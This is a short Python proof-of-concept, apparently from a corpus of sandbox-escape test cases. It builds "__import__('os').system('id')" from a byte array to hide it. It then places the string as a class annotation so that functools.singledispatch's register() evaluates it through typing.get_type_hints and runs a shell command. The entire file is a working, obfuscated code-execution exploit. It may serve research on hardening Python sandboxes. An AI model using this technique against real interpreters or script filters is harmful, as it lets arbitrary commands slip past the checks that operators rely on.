# source: functools.singledispatch.register(non-type) -> typing.get_type_hints; update_wrapper copies class __annotations__ into decorator wrapper
# family: class statement turned into a function by a functools decorator, then passed to register() as "a class of this script"
# goal: eval of runtime-built string -> os.system('id')
import functools

s = bytes([95,95,105,109,112,111,114,116,95,95,40,39,111,115,39,41,46,115,121,115,116,101,109,40,39,105,100,39,41]).decode()

@functools.singledispatch
def handle(x):
    return 0

@functools.lru_cache
class Quote:
    bid: s

try:
    handle.register(Quote)
except Exception as e:
    print("after eval:", type(e).__name__)
